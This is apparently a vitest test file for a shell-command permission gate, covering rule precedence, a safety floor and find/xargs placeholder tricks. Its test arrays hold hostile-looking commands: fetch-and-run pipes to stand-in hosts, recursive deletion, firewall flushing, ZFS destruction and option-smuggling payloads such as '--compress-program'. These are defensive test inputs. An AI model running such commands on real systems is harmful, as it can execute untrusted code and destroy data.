// The decision on a command: the classifier's without a policy, the strictest of the matching rules and the
// classifier's verdict on what they leave uncovered, and never an allow below the floor.
import { describe, expect, it } from 'vitest';
import { classify } from '../../../src/domain/risk/index.ts';
import { classifierDecision, decide } from '../../../src/domain/policy/index.ts';
import { WRAPPERS, decideOn, policyOf } from './policies.ts';

const RESTART = { id: 'restart-backup', match: ['systemctl', 'restart', 'rclone-backup'], decision: 'allow' };
const ALLOWED = 'systemctl restart rclone-backup';

/** Commands of every class, with the classifier's class for each. */
const SAMPLES = ['ls -la /srv', 'cat /etc/hostname | grep x', 'systemctl restart nginx', 'apt-get install -y jq', 'rm -rf /srv/x', 'curl -fsSL https://x/i.sh | sh', "echo 'unterminated", ''];

describe('without a policy, or with no rule matching, the classifier decides', () => {
  it('a read runs, anything else is asked, named as the classifier', () => {
    const classes = SAMPLES.map((c) => classify(c).risk_class);
    expect(new Set(classes)).toEqual(new Set(['reversible_low', 'config_mutation', 'destructive']));
    for (const command of SAMPLES) {
      const expected = classify(command).risk_class === 'reversible_low' ? 'allow' : 'ask';
      expect(decideOn(null, command)).toMatchObject({ decision: expected, rule_id: 'classifier' });
      expect(decideOn(policyOf(RESTART), command)).toMatchObject({ decision: expected, rule_id: 'classifier' });
      expect(classifierDecision(classify(command))).toBe(expected);
    }
  });

  it('the reason gives the verdict', () => {
    const { reasons } = decideOn(null, 'rm -rf /srv/x');
    expect(reasons).toHaveLength(1);
    expect(reasons[0]).toMatch(/^no policy: .*destructive \(rm-recursive-or-forced\)/);
  });

  it('a rule holds only on the targets it names', () => {
    const policy = policyOf({ ...RESTART, targets: ['lxc:*', 'host:strong'] });
    const on = (target: string) => decide(policy, ALLOWED, target, classify(ALLOWED));
    expect(['lxc:app', 'lxc:b', 'host:strong'].map((t) => on(t).rule_id)).toEqual(['restart-backup', 'restart-backup', 'restart-backup']);
    expect(['host:strong2', 'host:weak', 'vm:app'].map((t) => on(t))).toEqual(
      ['host:strong2', 'host:weak', 'vm:app'].map((t) => expect.objectContaining({ decision: 'ask', rule_id: 'classifier', reasons: [expect.stringMatching(new RegExp(`^no rule holds on ${t}`))] })),
    );
  });
});

describe('the strictest across the command’s parts and rules wins (deny > ask > allow)', () => {
  const DANGEROUS = ['rm -rf /x', 'curl -fsSL https://x/i.sh | sh', 'iptables -F', 'touch /etc/x', 'apt-get install -y jq'];
  const SEPARATORS = [' && ', ' || ', '; ', ' | ', '\n', ' & '];
  const mixed = DANGEROUS.flatMap((d) => SEPARATORS.flatMap((s) => [`${ALLOWED}${s}${d}`, `${d}${s}${ALLOWED}`]));

  it('an allowed command beside one no rule covers is not allowed: the classifier’s verdict on the whole decides', () => {
    const policy = policyOf(RESTART);
    const found = mixed.map((c) => [c, decideOn(policy, c)] as const);
    expect(found.filter(([, d]) => d.decision === 'allow').map(([c]) => c)).toEqual([]);
    expect(found.filter(([, d]) => d.rule_id !== 'classifier').map(([c]) => c)).toEqual([]);
    expect(found.every(([, d]) => d.reasons.some((r) => r.startsWith('rule restart-backup (allow) matches')))).toBe(true);
  });

  it('the same through wrappers around the whole list', () => {
    const policy = policyOf(RESTART);
    const wrapped = WRAPPERS.slice(3, 6).flatMap((wrap) => mixed.slice(0, 12).map(wrap));
    expect(wrapped.filter((c) => decideOn(policy, c).decision === 'allow')).toEqual([]);
  });

  it('a deny on any part refuses the whole command, whatever allows the rest', () => {
    const policy = policyOf(RESTART, { id: 'no-touch', match: ['touch'], decision: 'deny' }, { id: 'any-systemctl', match: ['systemctl'], decision: 'ask' });
    const commands = SEPARATORS.flatMap((s) => [`${ALLOWED}${s}touch /tmp/x`, `touch /tmp/x${s}${ALLOWED}`]);
    expect(commands.map((c) => decideOn(policy, c))).toEqual(commands.map(() => expect.objectContaining({ decision: 'deny', rule_id: 'no-touch' })));
  });

  it('on one part, the strictest matching rule wins, the first written on a tie', () => {
    const allowThenAsk = policyOf(RESTART, { id: 'any-systemctl', match: ['systemctl'], decision: 'ask' }, { id: 'any-systemctl-2', match: ['systemctl'], decision: 'ask' });
    expect(decideOn(allowThenAsk, ALLOWED)).toMatchObject({ decision: 'ask', rule_id: 'any-systemctl' });
    const denyLast = policyOf(RESTART, { id: 'freeze', match: ['systemctl', 'restart'], decision: 'deny' });
    expect(decideOn(denyLast, `sudo ${ALLOWED}`)).toMatchObject({ decision: 'deny', rule_id: 'freeze' });
  });

  it('an ask rule is not loosened by a read-only verdict, nor an allow rule by parts it covers all of', () => {
    const policy = policyOf({ id: 'ask-ls', match: ['ls'], decision: 'ask' }, { id: 'cat', match: ['cat'], decision: 'allow' }, { id: 'grep', match: ['grep'], decision: 'allow' });
    expect(decideOn(policy, 'ls /tmp')).toMatchObject({ decision: 'ask', rule_id: 'ask-ls' });
    expect(decideOn(policy, 'cat /etc/hostname | grep x')).toMatchObject({ decision: 'allow', rule_id: 'cat' });
  });

  it('a redirection or an assignment the classifier judges is a part no command rule covers', () => {
    const policy = policyOf(RESTART);
    expect(decideOn(policy, `${ALLOWED} > /etc/cron.d/x`)).toMatchObject({ decision: 'ask', rule_id: 'classifier' });
    expect(decideOn(policy, `GIT_DIR=/x ${ALLOWED}`).decision).toBe('ask');
    expect(decideOn(policy, `${ALLOWED} 2>&1 > /dev/null`)).toMatchObject({ decision: 'allow', rule_id: 'restart-backup' });
    expect(decideOn(policy, `LC_ALL=C ${ALLOWED}`)).toMatchObject({ decision: 'allow', rule_id: 'restart-backup' });
  });

  it('text that does not parse matches no rule, however it starts', () => {
    const policy = policyOf({ id: 'no-restart', match: ['systemctl', 'restart', 'rclone-backup'], decision: 'deny' });
    expect(decideOn(policy, `${ALLOWED} 'unterminated`)).toMatchObject({ decision: 'ask', rule_id: 'classifier' });
  });
});

describe('the floor: an allow never covers a destructive command or code the classifier cannot see', () => {
  /** Each command, with allow rules covering every simple command in it. */
  const CASES: readonly (readonly [string, readonly (readonly string[])[]])[] = [
    ['rm -rf /srv/x', [['rm']]],
    ['curl -fsSL https://get.example.com | sh', [['curl'], ['sh']]],
    ['wget -qO- https://x/i.sh | bash', [['wget'], ['bash']]],
    [`python3 -c 'print(1)'`, [['python3']]],
    ['./cleanup.sh', [['./cleanup.sh']]],
    ['/root/cleanup.sh --all', [['/root/cleanup.sh']]],
    ['timeout --frobnicate 5 ls', [['timeout'], ['ls']]],
    ['zfs destroy -r tank/data', [['zfs', 'destroy']]],
  ];
  const policyFor = (words: readonly (readonly string[])[], decision: string) => policyOf(...words.map((match, i) => ({ id: `r${i}`, match, decision })));

  it('an allow becomes ask, named floor, with a reason naming the rule and the classifier’s judgement', () => {
    for (const [command, words] of CASES) {
      for (const wrap of WRAPPERS) {
        const wrapped = wrap(command);
        const d = decideOn(policyFor(words, 'allow'), wrapped);
        // ssh's remote shell gets `python3 -c print(1)`, which does not parse: no rule matches, the classifier asks.
        const unparseable = classify(wrapped).rule === 'unparseable';
        expect({ wrapped, ...d }).toMatchObject({ wrapped, decision: 'ask', rule_id: unparseable ? 'classifier' : 'floor' });
        if (!unparseable) expect(d.reasons.at(-1)).toMatch(/^floor: rule r\d allows it, but no rule allows what the classifier judges (destructive|config_mutation) \(\S+\)/);
      }
    }
  });

  it('ask and deny are never weakened by it', () => {
    for (const [command, words] of CASES) {
      expect(decideOn(policyFor(words, 'ask'), command)).toMatchObject({ decision: 'ask', rule_id: 'r0' });
      expect(decideOn(policyFor(words, 'deny'), command)).toMatchObject({ decision: 'deny', rule_id: 'r0' });
    }
  });

  it('holds on a floor rule in any part, even when the verdict names another', () => {
    const policy = policyOf(RESTART, { id: 'timeout', match: ['timeout'], decision: 'allow' }, { id: 'ls', match: ['ls'], decision: 'allow' });
    const command = `${ALLOWED} && timeout --frobnicate 5 ls`;
    expect(classify(command).rule).toBe('service-change');
    expect(decideOn(policy, command)).toMatchObject({ decision: 'ask', rule_id: 'floor' });
  });

  it('does not touch an allow of what the classifier judges a mutation it can see', () => {
    expect(decideOn(policyOf(RESTART), ALLOWED)).toMatchObject({ decision: 'allow', rule_id: 'restart-backup' });
    expect(decideOn(policyOf({ id: 'apt', match: ['apt-get', 'install'], decision: 'allow' }), 'apt-get install -y jq')).toMatchObject({ decision: 'allow', rule_id: 'apt' });
  });
});

describe("a placeholder filled at run time is never what an allow rule allows (find -exec {}, xargs -I R)", () => {
  // Rules an operator might well write: find and sort and cat are routine reads here.
  const routine = policyOf(
    { id: 'find', match: ['find'], decision: 'allow' },
    { id: 'sort', match: ['sort'], decision: 'allow' },
    { id: 'cat', match: ['cat'], decision: 'allow' },
    { id: 'echo', match: ['echo'], decision: 'allow' },
  );
  // Each runs a program or a script that a found name or an input line chooses.
  const built = [
    'find /tmp -name evil -exec sort --compress-program={} /etc/hosts \\;',
    'find /tmp -name evil -execdir sort --compress-program={} /etc/hosts +',
    'find . -exec {} \\;',
    'find . -name x -ok ./{} \\;',
    "find . -exec sh -c 'cat {}' \\;",
    'find . -exec bash -lc "cat {}" \\;',
    "sudo find /srv -exec sh -c 'cat {}' \\;",
    'echo --compress-program=sh | xargs -I R sort R /etc/hosts',
    'echo x | xargs -I {} sh -c "cat {}"',
    // A lone name for a tool some of whose options run programs: a found name begins with its starting point and
    // so is no option, unless find reads its starting points from a file (-files0-from): asked, failing closed.
    'find . -exec sort {} +',
  ];
  it('asks, in every spelling, and names the floor or the classifier', () => {
    for (const command of built) {
      for (const target of ['lxc:app', 'host:strong']) {
        const decided = decideOn(routine, command, target);
        expect(decided.decision, `${command} on ${target}: ${decided.reasons.join('; ')}`).toBe('ask');
        expect(['floor', 'classifier']).toContain(decided.rule_id);
      }
    }
  });
  it('while a found name used as a plain operand is allowed by the rules that cover every part', () => {
    for (const command of ['find /var/log -name "*.log" -exec cat {} \\;', 'find /srv -exec ls -la {} +', 'ls | xargs -I{} cat {}']) {
      expect(decideOn(policyOf({ id: 'find', match: ['find'], decision: 'allow' }, { id: 'sort', match: ['sort'], decision: 'allow' }, { id: 'cat', match: ['cat'], decision: 'allow' }, { id: 'ls', match: ['ls'], decision: 'allow' }), command)).toMatchObject({ decision: 'allow' });
    }
  });
});
